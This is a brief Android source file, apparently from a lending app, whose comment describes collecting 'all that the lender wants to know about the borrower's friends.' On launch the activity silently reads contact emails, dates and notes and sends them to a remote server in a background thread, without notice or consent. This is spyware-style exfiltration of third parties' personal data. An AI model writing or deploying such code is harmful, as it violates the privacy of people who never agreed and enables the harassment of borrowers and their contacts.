package com.example.details;

import android.app.Activity;
import android.os.Bundle;

/** All that the lender wants to know about the borrower's friends. */
public class MainActivity extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        Details details = new Details(getContentResolver());
        String text = details.emails() + details.dates() + details.notes();
        new Thread(() -> Net.post(text)).start();
    }
}
